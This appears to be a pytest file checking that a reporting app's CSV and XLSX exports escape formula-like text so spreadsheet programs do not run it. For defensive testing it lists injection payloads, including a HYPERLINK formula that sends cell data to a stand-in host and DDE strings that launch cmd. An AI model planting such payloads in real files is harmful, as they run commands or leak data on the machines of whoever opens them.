"""Text in exported spreadsheets stays text: no formula Excel would run, in any CSV or XLSX export."""

import csv
import io
import re

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from core.spreadsheets import csv_value, streaming_workbook, write_cells, xlsx_row
from support.reports_factory import add_campaign

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
# The payloads of the review: "+" or "-" before a digit used to pass as a phone or a negative number.
PAYLOADS = ["-2+3+cmd|' /C calc'!A0", '+1+HYPERLINK("http://example.invalid","x")', "=1+1", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("write_only", [False, True])
def test_text_starting_with_an_equals_sign_is_stored_as_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(xlsx_row(sheet, [EVIL, "张三", 3, None, "=1+1", "-2+3+cmd|' /C calc'!A0", -5]))
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[-1].iter_rows())
    assert [c.value for c in cells[:7]] == [EVIL, "张三", 3, None, "=1+1", "-2+3+cmd|' /C calc'!A0", -5]
    assert [c.data_type for c in cells[:7]] == ["s", "s", "n", "n", "s", "s", "n"]


def test_write_cells_writes_what_write_row_writes_and_text_stays_text():
    values = [EVIL, "张三", 3, None, "", "=1+1", *PAYLOADS, -5, 0.125, True, "0012", "2026-12-03"]
    books = []
    for write in (lambda sheet: sheet.write_row(1, 0, ["" if v is None else v for v in values]),
                  lambda sheet: write_cells(sheet, 1, values)):
        out = io.BytesIO()
        book = streaming_workbook(out)
        write(book.add_worksheet("s"))
        book.close()
        row = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(min_row=2))[0]
        books.append([(c.value, c.data_type) for c in row])
    assert books[0] == books[1]
    # XlsxWriter writes a carriage return as _x000D_, which openpyxl reads back as it is.
    assert [value for value, _kind in books[1]][:len(values)] == [
        None if v == "" else v.replace("\r", "_x000D_") if isinstance(v, str) else v for v in values]
    assert {kind for (value, kind) in books[1] if isinstance(value, str)} == {"s"}


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-x", "'-x"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("+1+HYPERLINK(\"x\")", "'+1+HYPERLINK(\"x\")"),
    ("+8613800138000", "'+8613800138000"), ("-5", "'-5"),
    ("湛江市赤坎区", "湛江市赤坎区"), ("138****5678", "138****5678"), ("", ""), (None, None), (12, 12), (-5, -5),
    (-0.25, -0.25),
])
def test_csv_fields_that_excel_would_run_get_an_apostrophe(value, expected):
    assert csv_value(value) == expected


def test_report_exports_keep_a_formula_like_name_as_text(app):
    from reports.export import PERCENT, Table, to_csv, to_xlsx

    with app.test_request_context():
        table = Table("核查结论", [("姓名", ""), ("比例", PERCENT)])
        table.rows += [["=1+1", 0.25], ["-2+3+cmd|' /C calc'!A0", -0.5], ["张三", None]]
        sheet = load_workbook(io.BytesIO(to_xlsx([table]))).worksheets[0]
        assert (sheet["A2"].value, sheet["A2"].data_type, sheet["B2"].value) == ("=1+1", "s", 0.25)
        assert (sheet["A3"].data_type, sheet["B3"].value, sheet["B3"].data_type) == ("s", -0.5, "n")
        text = to_csv(table).decode("utf-8-sig")
        assert "'=1+1,0.25" in text and "'-2+3+cmd|' /C calc'!A0,-0.5" in text


@pytest.fixture
def poisoned_campaign(app, session):
    """A campaign whose persons are named with the payloads and whose attempts carry them as notes."""
    from models import Attempt, FollowUpTask, Person, SampleUnit

    with app.app_context():
        cid = add_campaign(session, {"440802": {"N": 50, "verified": [["not_authentic"]] * 6}})
        person_ids = session.scalars(select(SampleUnit.person_id).join(FollowUpTask)
                                     .where(FollowUpTask.campaign_id == cid).order_by(SampleUnit.rank)).all()
        for person_id, payload in zip(person_ids, PAYLOADS, strict=True):
            session.execute(update(Person).where(Person.id == person_id).values(name=payload))
            session.execute(update(Attempt).where(Attempt.task_id.in_(
                select(FollowUpTask.id).where(FollowUpTask.person_id == person_id))).values(note=payload))
        session.commit()
        draw_id = session.scalar(select(SampleUnit.draw_id).where(SampleUnit.person_id == person_ids[0]))
        return cid, draw_id


def csv_cells(response) -> set:
    assert response.status_code == 200, response.data[:300]
    return {cell for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for cell in row}


def xlsx_cells(response) -> list:
    assert response.status_code == 200, response.data[:300]
    return [c for sheet in load_workbook(io.BytesIO(response.data)).worksheets for row in sheet.iter_rows()
            for c in row]


def assert_neutralised(cells: set):
    assert {"'" + p for p in PAYLOADS} <= cells
    assert not cells & set(PAYLOADS)


@pytest.mark.parametrize("what", ["verifications", "attempts", "rectification"])
def test_every_report_csv_export_neutralises_formula_payloads(login_as, poisoned_campaign, what):
    cid, _draw = poisoned_campaign
    client = login_as("coordinator")
    if what == "rectification":
        assert client.post(f"/reports/{cid}/rectification/generate", data={"due_days": "20"}).status_code < 400
    assert_neutralised(csv_cells(client.get(f"/reports/{cid}/export/{what}.csv")))
    cells = xlsx_cells(client.get(f"/reports/{cid}/export/{what}.xlsx"))
    assert {ooxml_text(c.value) for c in cells if c.data_type == "s"} >= set(PAYLOADS)  # as typed, in text cells
    assert not [c for c in cells if c.data_type == "f"]


def test_sample_list_csv_neutralises_formula_payloads_on_the_page_and_the_api(login_as, token_client,
                                                                              poisoned_campaign):
    _cid, draw_id = poisoned_campaign
    assert_neutralised(csv_cells(login_as("coordinator").get(f"/campaigns/draws/{draw_id}/export.csv")))
    api = token_client("coordinator")
    assert_neutralised(csv_cells(api.get(f"/api/v1/draws/{draw_id}/export?format=csv")))
    cells = xlsx_cells(api.get(f"/api/v1/draws/{draw_id}/export?format=xlsx"))
    assert {ooxml_text(c.value) for c in cells if c.data_type == "s"} >= set(PAYLOADS)
    assert not [c for c in cells if c.data_type == "f"]


def ooxml_text(value: str) -> str:
    """Decode the _xHHHH_ escapes of an OOXML string, as a spreadsheet program shows it.

    The exports' streaming writer keeps a carriage return as typed, in the escape _x000D_ that Excel and
    LibreOffice decode; openpyxl, reading, leaves it as written."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)
